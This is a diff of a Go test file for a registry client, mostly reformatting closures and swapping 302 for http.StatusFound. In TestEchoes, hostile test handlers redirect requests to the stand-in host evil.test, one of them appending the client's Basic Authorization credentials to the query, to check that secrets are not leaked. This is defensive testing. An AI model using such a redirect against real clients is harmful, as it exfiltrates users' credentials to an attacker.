@@ -170,7 +170,9 @@ func TestTrickle(t *testing.T) {
 			_, err := repo.Tags(ctx)
 			return err
 		}},
-		"upload": {trickle(202), func(ctx context.Context, repo *registry.Repository) error { return repo.Push(ctx, small.desc, small.open) }},
+		"upload": {trickle(202), func(ctx context.Context, repo *registry.Repository) error {
+			return repo.Push(ctx, small.desc, small.open)
+		}},
 		"blob, 404": {trickle(404), func(ctx context.Context, repo *registry.Repository) error {
 			_, err := repo.Fetch(ctx, small.desc)
 			return err
@@ -278,12 +280,14 @@ func TestEchoes(t *testing.T) {
 			w.Header().Set("Warning", `299 - "`+canary+`"`)
 			w.WriteHeader(404)
 		},
-		"in a redirect": func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "https://evil.test/"+canary, 302) },
+		"in a redirect": func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "https://evil.test/"+canary, http.StatusFound)
+		},
 		"in a query": func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.test/?"+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), 302)
+			http.Redirect(w, r, "https://evil.test/?"+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), http.StatusFound)
 		},
 		"in its own domain": func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://"+canary+".evil.test/", 302)
+			http.Redirect(w, r, "https://"+canary+".evil.test/", http.StatusFound)
 		},
 	} {
 		v := newVictim(t, registry.Options{})
